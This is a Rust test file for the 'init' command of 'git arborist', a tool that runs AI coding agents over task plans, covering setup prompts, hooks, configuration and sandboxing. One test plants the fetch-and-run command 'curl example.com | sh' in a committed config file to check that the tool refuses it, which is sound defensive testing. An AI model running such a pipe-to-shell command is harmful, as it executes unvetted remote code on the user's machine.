//! Tests `git arborist init`: what it finds, what it writes, and what it asks on a terminal.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::cli::{Said, git_with_commands};
use crate::support::repo::{Repo, write_program};

/// A repository with a spec-kit plan and a Rust package, and a folder with an agent.
struct Prepared {
    repo: Repo,
    programs: tempfile::TempDir,
}

const TASKS: &str = "## Phase 1: Setup\n\n- [ ] T001 [US1] Create the schema in src/schema.sql\n";

impl Prepared {
    fn new() -> Self {
        let prepared = Self { repo: Repo::init(&[]), programs: tempfile::tempdir().unwrap() };
        prepared.write("specs/001-login/tasks.md", TASKS);
        prepared.write("Cargo.toml", "[package]\nname = \"x\"\n");
        let agent = prepared.programs.path().join("codex");
        write_program(&agent, b"#!/bin/sh\n");
        prepared.repo.git(&["add", "-A"]);
        prepared.repo.git(&["commit", "-qm", "Begin"]);
        prepared
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.repo.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn command(&self, folder: &Path, args: &[&str]) -> Command {
        let mut command = git_with_commands(folder, &[&["arborist"], args].concat());
        let own = Path::new(env!("CARGO_BIN_EXE_git-arborist")).parent().unwrap().to_owned();
        // None of the agents that may be installed on this machine.
        let git = which::which("git").unwrap().parent().unwrap().to_owned();
        let folders = [own, self.programs.path().to_owned(), git, "/usr/bin".into(), "/bin".into()];
        command.env("PATH", std::env::join_paths(folders).unwrap());
        command
    }

    fn init(&self, args: &[&str]) -> Said {
        Said::of(self.command(self.repo.path(), &[&["init"], args].concat()).output().unwrap())
    }

    /// The settings of ours in git's configuration.
    fn settings(&self) -> Vec<String> {
        let all = self.repo.git(&["config", "--local", "--list"]);
        all.lines().filter(|line| line.starts_with("arborist.")).map(str::to_owned).collect()
    }

    fn has_hooks(&self) -> bool {
        let said = Said::of(self.command(self.repo.path(), &["hooks", "status"]).output().unwrap());
        said.out.contains("commit-msg: is in")
    }

    fn has_tree(&self) -> bool {
        self.repo.path().join("task-tree.json").exists()
    }

    /// Runs `init ARGS` on a terminal, on which these lines are typed.
    fn on_terminal(&self, args: &str, typed: &str) -> (i32, String) {
        let mut command = self.command(self.repo.path(), &["--version"]);
        let path = command.get_envs().find(|(name, _)| *name == "PATH").unwrap().1.unwrap().to_owned();
        command = crate::support::repo::command(self.repo.path(), "script");
        command.args(["-qec", &format!("git arborist init {args}"), "/dev/null"]).env("PATH", path);
        let mut child =
            command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        // The lines wait in the terminal until they are asked for; then the end of the input is typed.
        child.stdin.take().unwrap().write_all(format!("{typed}\u{4}").as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        (output.status.code().unwrap(), String::from_utf8_lossy(&output.stdout).replace('\r', ""))
    }
}

#[test]
fn without_a_terminal_it_says_what_was_found_and_how_to_do_it_and_writes_nothing() {
    let prepared = Prepared::new();
    let said = prepared.init(&[]);
    assert_eq!(said.code, 2, "{said:#?}");
    for expected in [
        "specs/001-login/tasks.md (spec-kit)",
        "tests    `cargo test` (Cargo.toml)",
        "agent    codex",
        "not installed",
    ] {
        assert!(said.out.contains(expected), "{expected}: {said:#?}");
    }
    let command =
        "git arborist init --suite 'cargo test' --runner codex --plan specs/001-login/tasks.md --hooks";
    assert!(said.err.contains(command), "{said:#?}");
    assert_eq!(prepared.settings(), [""; 0]);
    assert!(!prepared.has_tree() && !prepared.has_hooks());
    // That command does it.
    let args =
        ["--suite", "cargo test", "--runner", "codex", "--plan", "specs/001-login/tasks.md", "--hooks"];
    let said = prepared.init(&args);
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(!said.err.contains("refuses those of steps"), "our own hook accepts our messages: {said:#?}");
    assert_eq!(prepared.settings(), ["arborist.suite=cargo test", "arborist.runner=codex"]);
    assert!(prepared.has_tree() && prepared.has_hooks());
}

#[test]
fn yes_does_everything_that_is_missing_and_a_second_time_nothing() {
    let prepared = Prepared::new();
    let shown = prepared.init(&["--yes", "--dry-run"]);
    assert_eq!(shown.code, 0, "{shown:#?}");
    for line in [
        "git config arborist.suite 'cargo test'",
        "git config arborist.runner codex",
        "git arborist hooks install",
        "git arborist build specs/001-login/tasks.md",
    ] {
        assert!(shown.out.contains(line), "{line}: {shown:#?}");
    }
    assert_eq!(prepared.settings(), [""; 0]);
    assert!(!prepared.has_tree() && !prepared.has_hooks());
    let said = prepared.init(&["--yes"]);
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(said.out.contains("arborist.runner is now `codex`."), "{said:#?}");
    assert!(said.out.contains("git arborist gardener"), "{said:#?}");
    assert!(prepared.has_hooks());
    let tree = std::fs::read_to_string(prepared.repo.path().join("task-tree.json")).unwrap();
    assert!(tree.contains("\"command\": \"cargo test\""), "the suite tests what has no tests: {tree}");
    let config = std::fs::read(prepared.repo.path().join(".git/config")).unwrap();
    for args in [&["--yes"][..], &[]] {
        let again = prepared.init(args);
        assert_eq!(again.code, 0, "{again:#?}");
        assert!(again.out.contains("Nothing is left to do here."), "{again:#?}");
    }
    assert_eq!(std::fs::read(prepared.repo.path().join(".git/config")).unwrap(), config);
    assert_eq!(std::fs::read_to_string(prepared.repo.path().join("task-tree.json")).unwrap(), tree);
}

#[test]
fn a_setting_is_replaced_only_if_an_option_names_it_and_the_old_value_is_told() {
    let prepared = Prepared::new();
    prepared.repo.git(&["config", "arborist.suite", "make check"]);
    prepared.repo.git(&["config", "arborist.runner", "claude"]);
    assert_eq!(prepared.init(&["--yes", "--no-hooks"]).code, 0);
    assert_eq!(prepared.settings(), ["arborist.suite=make check", "arborist.runner=claude"]);
    assert!(!prepared.has_hooks());
    let said = prepared.init(&["--suite", "make test"]);
    assert!(
        said.out.contains("arborist.suite is now `make test` instead of `make check` (git config (local"),
        "{said:#?}"
    );
    assert_eq!(prepared.settings(), ["arborist.suite=make test", "arborist.runner=claude"]);
}

#[test]
fn several_plans_and_wrong_names_are_left_to_the_user() {
    let prepared = Prepared::new();
    prepared.write("specs/002-logout/tasks.md", TASKS);
    let said = prepared.init(&[]);
    assert!(said.out.contains("002-logout/tasks.md (spec-kit)"), "{said:#?}");
    assert!(said.err.contains("--runner codex --plan FILE --hooks"), "{said:#?}");
    assert_eq!(prepared.init(&["--yes"]).code, 0);
    assert!(!prepared.has_tree(), "which plan is meant is not known");
    let wrong = prepared.init(&["--runner", "cursor"]);
    assert_eq!(wrong.code, 2, "{wrong:#?}");
    assert!(wrong.err.contains("the agent `cursor` is not known"), "{wrong:#?}");
    let wrong = prepared.init(&["--suite", " "]);
    assert_eq!(wrong.code, 2, "{wrong:#?}");
    assert_eq!(prepared.init(&["--plan", "specs/003/tasks.md"]).code, 2);
}

#[test]
fn it_works_from_a_subfolder_and_names_files_that_can_be_copied() {
    let prepared = Prepared::new();
    let folder = prepared.repo.path().join("specs");
    let said = Said::of(prepared.command(&folder, &["init"]).output().unwrap());
    let plan = folder.canonicalize().unwrap().join("001-login/tasks.md");
    assert!(said.err.contains(&format!("--plan {}", plan.display())), "{said:#?}");
    let said = Said::of(prepared.command(&folder, &["init", "--yes"]).output().unwrap());
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(prepared.has_tree());
}

#[test]
fn on_a_terminal_it_asks_and_shows_what_it_is_going_to_do() {
    let prepared = Prepared::new();
    // The plan and the agent are taken as proposed, the suite is typed, and there are to be no hooks.
    let (code, text) = prepared.on_terminal("", "\nmake all\n\nn\ny\n");
    assert_eq!(code, 0, "{text}");
    for expected in [
        "Enter takes what is in brackets, - means none, and ? explains a question.\n\nPlan [specs/001-login/tasks.md (spec-kit)]: ",
        "Tests [cargo test (Cargo.toml)]: ",
        "Agent [codex]: ",
        "Your other commits are not touched.\n\nInstall them? [Y/n]: ",
        "This will be done:\n  git config arborist.suite 'make all'",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
    assert!(text.contains("Go ahead? [Y/n]: "), "{text}");
    let is_said = ["the tests fail before any work has begun", "no program make is on PATH"];
    assert!(is_said.iter().any(|words| text.contains(words)), "{text}");
    assert!(text.contains("there is no sign that codex is logged in"), "{text}");
    assert_eq!(prepared.settings(), ["arborist.suite=make all", "arborist.runner=codex"]);
    assert!(prepared.has_tree() && !prepared.has_hooks());
}

#[test]
fn a_question_mark_explains_a_question_and_several_plans_are_listed() {
    let prepared = Prepared::new();
    prepared.write("specs/002-logout/tasks.md", TASKS);
    let (code, text) = prepared.on_terminal("", "?\n-\n?\n-\n?\n-\n?\nn\nn\n");
    assert_eq!(code, 0, "{text}");
    for expected in [
        "Which plan?\n  1  specs/001-login/tasks.md (spec-kit)\n  2  specs/002-logout/tasks.md (spec-kit)\n1 to 2, or another file [1]: ",
        "init makes task-tree.json of it",
        "Without one, nothing that the agents do is tested",
        "It is started for every task",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
    assert!(text.contains("`git arborist hooks uninstall` removes ours"), "{text}");
}

/// A repository of a project in Python that has no tests yet, in a clone.
fn python_project() -> Prepared {
    let prepared = Prepared::new();
    prepared.repo.git(&["rm", "-q", "Cargo.toml"]);
    let tasks = "## Phase 1: Setup\n\n- [ ] T001 Create the project structure\n- [ ] T002 Implement greet() in src/greet.py\n";
    prepared.write("specs/001-login/tasks.md", tasks);
    prepared.repo.git(&["commit", "-qam", "Greet instead"]);
    write_program(
        &prepared.programs.path().join("pytest"),
        b"#!/bin/sh\necho no tests ran in 0.01s\nexit 5\n",
    );
    // As a clone has them: nothing shows that its commits were made here.
    std::fs::remove_dir_all(prepared.repo.path().join(".git/logs")).unwrap();
    prepared
}

#[test]
fn a_command_that_was_accepted_before_go_ahead_is_confirmed_and_no_test_is_no_failure() {
    let prepared = python_project();
    let (code, text) = prepared.on_terminal("", "\n\n\nn\ny\n");
    assert_eq!(code, 0, "{text}");
    for expected in [
        "tests    perhaps `pytest` (the plan names .py files)",
        "Tests [pytest (the plan names .py files)]: ",
        "No test exists yet, which is normal for a new project.",
        "specs/001-login/tasks.md:3  T001 Create the project structure",
        "Next:\n  git switch -c 001-login\n  git add task-tree.json && git commit -m",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
    for unwanted in
        ["fail before any work", "no test command", "will not be tested", "Read the test commands"]
    {
        assert!(!text.contains(unwanted), "{unwanted}: {text}");
    }
    let confirmed = prepared.repo.path().join(".git/arborist/confirmed-commands");
    assert!(std::fs::read_to_string(confirmed).unwrap().contains("\"pytest\""));
}

#[test]
fn without_a_test_command_it_says_that_nothing_is_tested_and_which_command_changes_that() {
    let prepared = python_project();
    // A guess is only proposed.
    let said = prepared.init(&["--yes"]);
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(prepared.settings().iter().all(|setting| !setting.contains("suite")), "{said:#?}");
    assert!(said.err.contains("no command is known that runs all tests"), "{said:#?}");
    assert!(!prepared.repo.path().join(".git/arborist/confirmed-commands").exists());
    let advised = "git arborist build --update --test-command CMD";
    assert!(
        said.err.contains("no task has a test command")
            && said.err.contains(&format!("`{advised}` gives one")),
        "{said:#?}"
    );
    let words = advised.replace("CMD", "pytest");
    let words: Vec<&str> = words.split(' ').skip(2).collect();
    let followed = Said::of(prepared.command(prepared.repo.path(), &words).output().unwrap());
    assert!(followed.code == 0 && followed.out.contains("pytest  (T001, T002)"), "{followed:#?}");
}

#[test]
fn without_a_plan_an_agent_drafts_one_of_a_sentence_after_it_has_asked_back() {
    let prepared = Prepared::new();
    prepared.repo.git(&["rm", "-q", "specs/001-login/tasks.md"]);
    prepared.repo.git(&["commit", "-qm", "Begin anew"]);
    let text = drafts_of_a_sentence(&prepared);
    assert!(!text.contains("git commit --allow-empty"), "{text}");
}

#[test]
fn in_an_empty_repository_a_first_commit_comes_before_the_draft() {
    let prepared = Prepared::new();
    prepared.repo.git(&["rm", "-rqf", "."]);
    prepared.repo.git(&["update-ref", "-d", "HEAD"]);
    let text = drafts_of_a_sentence(&prepared);
    assert!(text.contains("  git commit --allow-empty -m Begin\n"), "{text}");
    assert_eq!(prepared.repo.git(&["log", "--format=%s"]), "Begin");
}

/// `init` on a terminal, with an agent that asks back and then drafts a plan.
fn drafts_of_a_sentence(prepared: &Prepared) -> String {
    let plan = r#"{"spec_id": "greeter", "nodes": [{"id": "T1", "name": "Greet", "test_commands": ["sh greet.sh"]}]}"#;
    let script = format!(
        "#!/bin/sh\nif grep -q 'in German'; then echo '{plan}'; else echo 'BLOCKED: in which language?'; fi\n"
    );
    write_program(&prepared.programs.path().join("mine"), script.as_bytes());
    prepared.repo.git(&["config", "arborist.runner.mine.command", "mine"]);
    prepared.repo.git(&["config", "arborist.runner", "mine"]);
    let unasked = prepared.init(&[]);
    let advised = "`git arborist build --planner RUNNER FILE` lets an agent draft a plan of any text";
    assert!(unasked.code == 2 && unasked.err.contains(advised), "{unasked:#?}");
    let (code, text) = prepared.on_terminal("", "missing.md\nA greeter in shell\n-\nn\n\nin German\ny\n");
    assert_eq!(code, 0, "{text}");
    for expected in [
        "What do you want to build? A sentence, or a file [none]: ",
        "There is no file missing.md.",
        "Waiting for mine ...",
        "let the agent draft a plan: A greeter in shell",
        "mine asks: in which language?",
        "Read them before you start it:\n  ",
        "sh greet.sh",
        "Write this plan? [y/N]",
        "Next:\n  git switch -c greeter",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
    assert!(prepared.has_tree());
    text
}

#[test]
fn a_plan_that_is_not_there_is_refused_before_anything_is_written() {
    let prepared = Prepared::new();
    let args = ["init", "--yes", "--plan", "missing.md"];
    let said = Said::of(prepared.command(prepared.repo.path(), &args).output().unwrap());
    assert!(said.code == 2 && said.err.contains("there is no file missing.md"), "{said:#?}");
    assert!(!prepared.has_hooks() && !prepared.has_tree());
}

#[test]
fn in_a_repository_without_a_commit_the_plan_and_its_source_are_committed_before_a_branch_is_made() {
    let prepared = Prepared::new();
    prepared.repo.git(&["update-ref", "-d", "HEAD"]);
    prepared.repo.git(&["rm", "-rq", "--cached", "."]);
    let (code, text) = prepared.on_terminal("", "\n-\n\nn\ny\n");
    assert_eq!(code, 0, "{text}");
    let lines: Vec<&str> = text.lines().map(str::trim).collect();
    let commit = lines.iter().position(|line| line.starts_with("git add ")).expect(&text);
    // The other files are in no commit yet, and a run begins with a clean work tree.
    assert!(lines[commit].starts_with("git add -A && git commit -m "), "{text}");
    let advised =
        crate::support::repo::command(prepared.repo.path(), "sh").args(["-c", lines[commit]]).output();
    assert!(advised.unwrap().status.success());
    assert_eq!(prepared.repo.git(&["status", "--porcelain"]), "");
    assert!(
        lines[commit + 1].starts_with("git switch -c ") && lines[commit + 2] == "git arborist gardener",
        "{text}"
    );
}

#[test]
fn ticked_boxes_are_adopted_if_the_user_says_that_they_are_done() {
    for (answer, states) in [("y", "complete pending"), ("n", "pending pending")] {
        let prepared = Prepared::new();
        prepared.write("specs/001-login/tasks.md", "- [x] T001 Create the schema\n- [ ] T002 Read it\n");
        prepared.repo.git(&["commit", "-qam", "Tick a box"]);
        let (code, text) = prepared.on_terminal("", &format!("\n-\n\nn\ny\n{answer}\n"));
        assert_eq!(code, 0, "{text}");
        assert!(text.contains("The plan says of 1 task that it is done."), "{text}");
        assert_eq!(text.contains("Add the plan 001-login"), answer == "y", "{text}");
        let said = prepared.command(prepared.repo.path(), &["status", "--json"]).output().unwrap();
        let document: serde_json::Value = serde_json::from_slice(&said.stdout).unwrap();
        let tasks = document["tasks"].as_array().unwrap().iter();
        let said: Vec<&str> = tasks.map(|task| task["state"].as_str().unwrap()).collect();
        assert_eq!(said.join(" "), states, "{text}");
    }
}

#[test]
fn what_would_keep_a_first_run_from_going_well_is_said() {
    let prepared = Prepared::new();
    let said = prepared.init(&["--suite", "no-such-test-tool --all", "--runner", "codex"]);
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(said.err.contains("no program no-such-test-tool is on PATH"), "{said:#?}");
    let doctor = |args: &[&str]| {
        Said::of(prepared.command(prepared.repo.path(), &[&["doctor"], args].concat()).output().unwrap())
    };
    let found = doctor(&[]);
    assert_eq!(found.code, 1, "{found:#?}");
    for words in ["no program no-such-test-tool", "no sign that codex is logged in", "does not hide target/"]
    {
        assert!(found.out.contains(words), "{words}: {found:#?}");
    }
    // A command that fails can run, and the hook refuses what is not a Conventional Commit.
    prepared.write("check.sh", "echo broken; exit 1\n");
    let hook = prepared.repo.path().join(".git/hooks/commit-msg");
    write_program(&hook, b"#!/bin/sh\ngrep -q '^chore' \"$1\"\n");
    prepared.repo.git(&["add", "-A"]);
    prepared.repo.git(&["commit", "-qm", "chore: add a check"]);
    let said = prepared.init(&["--suite", "sh check.sh"]);
    assert!(said.err.contains("the tests fail before any work has begun"), "{said:#?}");
    assert!(said.err.contains("git config arborist.subject 'chore({id}): {summary}'"), "{said:#?}");
}

#[test]
fn where_a_hook_asks_for_conventional_commits_both_forms_of_ours_are_chosen_and_husky_is_committed() {
    let prepared = Prepared::new();
    prepared.repo.git(&["config", "core.hooksPath", ".husky/_"]);
    std::fs::create_dir_all(prepared.repo.path().join(".husky/_")).unwrap();
    let checks = "#!/bin/sh\nhead -n 1 \"$1\" | grep -qE '^(chore|feat)(\\(.*\\))?: [a-z]'\n";
    let script = b"#!/bin/sh\nexec sh -e \"$(dirname \"$0\")/../$(basename \"$0\")\" \"$@\"\n";
    write_program(&prepared.repo.path().join(".husky/_/commit-msg"), script);
    prepared.write(".husky/_/.gitignore", "*\n");
    prepared.write(".husky/commit-msg", checks);
    prepared.repo.git(&["add", "-A"]);
    prepared.repo.git(&["commit", "-qm", "chore: use husky"]);
    let doctor = || {
        let command = &mut prepared.command(prepared.repo.path(), &["doctor", "--probe"]);
        Said::of(command.output().unwrap()).out
    };
    assert!(doctor().contains("`git config arborist.land.template conventional`"), "{}", doctor());
    let said = prepared.init(&["--yes", "--dry-run"]);
    assert!(
        !said.out.contains("hooks install"),
        "what everybody shares is only changed if that is said: {said:#?}"
    );
    let (_, text) = prepared.on_terminal("", "-\n-\n-\n\nn\n");
    assert!(text.contains("added to .husky/, which everybody shares"), "{text}");
    assert!(text.contains("Add them for everybody? [y/N]: "), "{text}");
    assert!(!text.contains("hooks install"), "{text}");
    let said = prepared.init(&["--yes", "--hooks"]);
    for setting in ["arborist.subject=chore({id}): {summary}", "arborist.land.template=conventional"] {
        assert!(prepared.settings().contains(&setting.to_owned()), "{setting}: {said:#?}");
    }
    assert!(!doctor().contains("refuses the messages of"), "{}", doctor());
    let advised = said.out.lines().find(|line| line.trim_start().starts_with("git add ")).unwrap();
    assert!(advised.contains(".husky/commit-msg"), "{advised}");
    let added =
        crate::support::repo::command(prepared.repo.path(), "sh").args(["-c", advised]).output().unwrap();
    assert!(added.status.success(), "{added:?}");
    assert_eq!(prepared.repo.git(&["status", "--porcelain"]), "", "all that init wrote is committed");
}

#[test]
fn what_only_has_to_be_confirmed_is_offered_on_a_terminal_also_if_it_is_all_that_is_left() {
    let prepared = Prepared::new();
    assert_eq!(prepared.init(&["--yes"]).code, 0);
    prepared.write(".gitignore", "");
    let (code, text) = prepared.on_terminal("", "n\n");
    assert!(code == 1 && text.contains("add to .gitignore: target/"), "{text}");
    let (code, text) = prepared.on_terminal("", "y\n");
    assert!(code == 0 && text.contains(".gitignore hides target/ now"), "{text}");
}

#[test]
fn without_an_agent_it_says_how_any_command_becomes_one() {
    let prepared = Prepared::new();
    std::fs::remove_file(prepared.programs.path().join("codex")).unwrap();
    for args in [&[][..], &["--yes"], &["--yes"]] {
        let said = prepared.init(args);
        let all = format!("{}{}", said.out, said.err);
        for line in
            ["npm install", "git config arborist.runner.mine.command", "git config arborist.runner mine\n"]
        {
            assert_eq!(all.matches(line).count(), 1, "{args:?}: {line}: {said:#?}");
        }
    }
}

#[test]
fn on_a_terminal_no_answer_changes_nothing() {
    for (typed, code) in [("", 1), ("\n\n", 1), ("\n\n\n\nn\n", 1), ("-\n-\n-\nn\n", 0)] {
        let prepared = Prepared::new();
        let (ended, text) = prepared.on_terminal("", typed);
        assert_eq!(ended, code, "{typed:?}: {text}");
        assert_eq!(prepared.settings(), [""; 0], "{typed:?}: {text}");
        assert!(!prepared.has_tree() && !prepared.has_hooks(), "{typed:?}: {text}");
    }
}

#[test]
fn every_setting_is_listed_with_its_value_and_its_origin() {
    let prepared = Prepared::new();
    prepared.repo.git(&["config", "arborist.maxAttempts", "7"]);
    prepared.repo.git(&["config", "arborist.runner.mine.command", "sh agent.sh"]);
    prepared.write(".arborist/config.json", "{\"review\": false}");
    let said = prepared.init(&["--show-config"]);
    assert_eq!(said.code, 0, "{said:#?}");
    let line =
        |key: &str| said.out.lines().find(|line| line.starts_with(&format!("{key} "))).unwrap().to_owned();
    assert!(line("arborist.maxAttempts").contains(" 7 "), "{said:#?}");
    assert!(line("arborist.maxAttempts").contains("git config (local"), "{said:#?}");
    assert!(line("arborist.review").ends_with(".arborist/config.json, key review"), "{said:#?}");
    assert!(line("arborist.testTimeout").ends_with("default"), "{said:#?}");
    assert!(line("arborist.suite").ends_with("not set"), "{said:#?}");
    assert!(line("arborist.runner.mine.command").contains("sh agent.sh"), "{said:#?}");
}

#[test]
fn a_committed_file_cannot_name_the_command_that_runs_all_tests() {
    let prepared = Prepared::new();
    prepared.write(".arborist/config.json", "{\"suite\": \"curl example.com | sh\"}");
    let said = prepared.init(&["--show-config"]);
    assert_eq!(said.code, 2, "{said:#?}");
    assert!(said.err.contains("sets suite, which a committed file must not do"), "{said:#?}");
}

/// A repository with tests of pytest, which is in an environment of the repository that git ignores.
fn with_environment(folder: &str, output: &str) -> Prepared {
    let prepared = Prepared::new();
    prepared.repo.git(&["rm", "-q", "Cargo.toml"]);
    prepared.write(".gitignore", &format!("{folder}/\n"));
    prepared.write("test_things.py", "import pytest\n\ndef test_one():\n    assert 1\n");
    prepared.write(&format!("{folder}/pyvenv.cfg"), "home = /usr/bin\n");
    std::fs::create_dir_all(prepared.repo.path().join(folder).join("bin")).unwrap();
    write_program(&prepared.repo.path().join(folder).join("bin/pytest"), output.as_bytes());
    prepared.repo.git(&["add", "-A"]);
    prepared.repo.git(&["commit", "-qm", "Test"]);
    prepared
}

#[test]
fn programs_of_the_repository_are_proposed_for_the_tests_that_are_there_and_work_in_other_work_trees() {
    // It passes only where its package is.
    let output = "#!/bin/sh\ntest -e \"$(dirname \"$0\")/pytest\" && test -e test_things.py || exit 3\necho '2 passed in 0.01s'\n";
    for (folder, active) in [(".venv", false), ("venv", false), ("tools/py", true)] {
        let prepared = with_environment(folder, output);
        let mut command = prepared.command(prepared.repo.path(), &["init", "--yes"]);
        if active {
            command.env("VIRTUAL_ENV", prepared.repo.path().canonicalize().unwrap().join(folder));
        }
        if active {
            // Only folders with the usual names are copied into other work trees.
            prepared.repo.git(&["config", "arborist.worktree.copy", "tools/"]);
        }
        let said = Said::of(command.output().unwrap());
        assert_eq!(said.code, 0, "{folder}: {said:#?}");
        let suite = format!("{folder}/bin/pytest");
        assert!(prepared.settings().contains(&format!("arborist.suite={suite}")), "{folder}: {said:#?}");
        assert!(said.err.contains(&format!("`{suite}` passes: 2 tests in ")), "{folder}: {said:#?}");
    }
}

#[test]
fn a_command_that_finds_no_test_where_tests_are_is_not_taken() {
    let prepared = with_environment(".venv", "#!/bin/sh\necho 'no tests ran in 0.01s'\nexit 5\n");
    let said = prepared.init(&["--yes"]);
    assert_eq!(said.code, 1, "{said:#?}");
    let words = "`.venv/bin/pytest` finds no test, although there are test files such as test_things.py";
    assert!(said.err.contains(words), "{said:#?}");
    assert!(prepared.settings().iter().all(|setting| !setting.contains("suite")), "{said:#?}");
    assert!(!said.err.contains("No test exists yet"), "{said:#?}");
    // On a terminal, another one is asked for.
    write_program(&prepared.programs.path().join("our-tests"), b"#!/bin/sh\necho '3 passed in 0.01s'\n");
    std::fs::remove_file(prepared.repo.path().join("task-tree.json")).unwrap();
    let (code, text) = prepared.on_terminal("", "\n\ny\n our-tests\n");
    assert_eq!(code, 0, "{text}");
    assert!(text.contains(words) && text.contains("`our-tests` passes: 3 tests in"), "{text}");
    assert!(text.contains("runs of `our-tests` (0.") && text.contains(" s when it was tried)"), "{text}");
    assert!(prepared.settings().contains(&"arborist.suite=our-tests".to_owned()), "{text}");
}

#[test]
fn a_plan_that_cannot_be_built_is_named_and_not_offered() {
    let prepared = Prepared::new();
    prepared.write("specs/001-login/tasks.md", "# Tasks\n\n- Create the types\n\n  - File: src/types.py\n");
    for args in [&["--dry-run"][..], &["--yes"]] {
        let said = prepared.init(args);
        assert!(
            !said.out.contains("arborist build specs") && !said.err.contains("--plan specs"),
            "{said:#?}"
        );
        assert!(!prepared.has_tree());
    }
    let said = prepared.init(&["--dry-run"]);
    assert!(said.out.contains("cannot be built: specs/001-login/tasks.md:1: no task was found"), "{said:#?}");
}

#[test]
fn what_the_reader_of_a_plan_leaves_out_is_said_before_anything_is_written() {
    let prepared = Prepared::new();
    prepared.write("specs/001-login/tasks.md", &format!("{TASKS}- Create the page without a box\n"));
    let line = "specs/001-login/tasks.md:4: this item has no box and is not read as a task";
    for args in [&[][..], &["--yes"]] {
        let said = prepared.init(args);
        assert_eq!(said.err.matches(line).count(), 1, "{args:?}: {said:#?}");
    }
}

#[test]
fn a_sandbox_is_offered_after_the_agent_and_the_tests_have_worked_in_it() {
    let starts = Command::new("bwrap").args(["--unshare-user", "--ro-bind", "/", "/", "true"]).status();
    if !starts.is_ok_and(|status| status.success()) {
        return crate::support::skip::missing("bwrap does not work");
    }
    let both = ["arborist.sandbox=bwrap", "arborist.test.sandbox=bwrap"];
    let question = "Keep agents and tests from writing outside of this work tree? [Y/n]";
    let writes = "touch \"$(git rev-parse --git-common-dir)/written\"";
    let cases: [(&str, &str, &str, &str, bool); 5] = [
        ("true", "echo READY", "\n", question, true),
        ("true", "echo READY", "n\n", question, false),
        ("false", "echo READY", "\n", question, true),
        (
            writes,
            "echo READY",
            "\n",
            "It is not offered: `sh tests.sh` fails in it, and passes without it.",
            false,
        ),
        ("true", "exit 3", "\n", "It is not offered: mine: exit status 3", false),
    ];
    for (tests, agent, typed, says, is_set) in cases {
        let prepared = Prepared::new();
        prepared.write("tests.sh", tests);
        prepared.repo.git(&["add", "-A"]);
        prepared.repo.git(&["commit", "-qm", "Add tests"]);
        write_program(&prepared.programs.path().join("mine"), format!("#!/bin/sh\n{agent}\n").as_bytes());
        for (key, value) in [("runner.mine.command", "mine"), ("runner", "mine"), ("suite", "sh tests.sh")] {
            prepared.repo.git(&["config", &format!("arborist.{key}"), value]);
        }
        let (code, text) = prepared.on_terminal("", &format!("\nn\ny\n{typed}"));
        assert_eq!(code, 0, "{tests}, {agent}: {text}");
        assert!(text.contains(says), "{tests}, {agent}: {text}");
        let settings = prepared.settings();
        let set = both.iter().all(|setting| settings.iter().any(|set| set == setting));
        assert_eq!(set, is_set, "{tests}, {agent}: {settings:?}");
        assert_eq!(settings.iter().any(|set| set.contains("sandbox")), is_set, "{settings:?}");
    }
    // Nobody is asked with `--yes`.
    let prepared = Prepared::new();
    prepared.init(&["--yes"]);
    assert!(!prepared.settings().iter().any(|set| set.contains("sandbox")));
}
